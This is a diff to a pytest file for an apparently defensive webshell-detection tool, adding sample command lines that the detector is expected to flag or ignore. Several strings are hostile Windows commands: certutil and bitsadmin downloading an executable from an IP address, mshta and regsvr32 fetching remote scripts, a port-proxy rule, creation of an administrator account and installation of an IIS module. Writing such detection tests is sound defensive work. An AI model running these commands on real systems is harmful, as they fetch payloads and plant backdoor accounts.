@@ -4,6 +4,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from tests.builders.inert import live
 from webshellhunt.knowledge.suspicious_commands import find_suspicious_command
 
 BASE64 = "QQBBAEEAQQ" * 5
@@ -19,6 +20,17 @@ BASE64 = "QQBBAEEAQQ" * 5
         "[System.Reflection.Assembly]::Load($bytes)",
         "mshta https://x.example/a",
         "regsvr32 /s /n /u /i:http://x.example/a scrobj.dll",
+        *map(
+            live,
+            [
+                "certutil.exe -url·cache -split -f ht·tp://192.0.2.7/a a.exe",
+                "bitsadmin /trans·fer a ht·tp://192.0.2.7/a C:\\a.exe",
+                "netsh interface port·proxy add v4tov4 listenport=1",
+                "net us·er support x /add",
+                "net1.exe localgr·oup Administrators support /add",
+                "appcmd.exe install mod·ule /name:W /image:C:\\w.dll",
+            ],
+        ),
     ],
 )
 def test_who_hides_says_so(text: str) -> None:
@@ -36,6 +48,9 @@ def test_who_hides_says_so(text: str) -> None:
         "Invoke-WebRequest http://x.example/a -OutFile a.zip",
         "[Reflection.Assembly]::LoadWithPartialName('System.Web')",
         "mshta.exe C:\\Tools\\a.hta",
+        "certutil -crl",
+        "net user",
+        "appcmd recycle apppool /apppool.name:DefaultAppPool",
         "",
     ],
 )
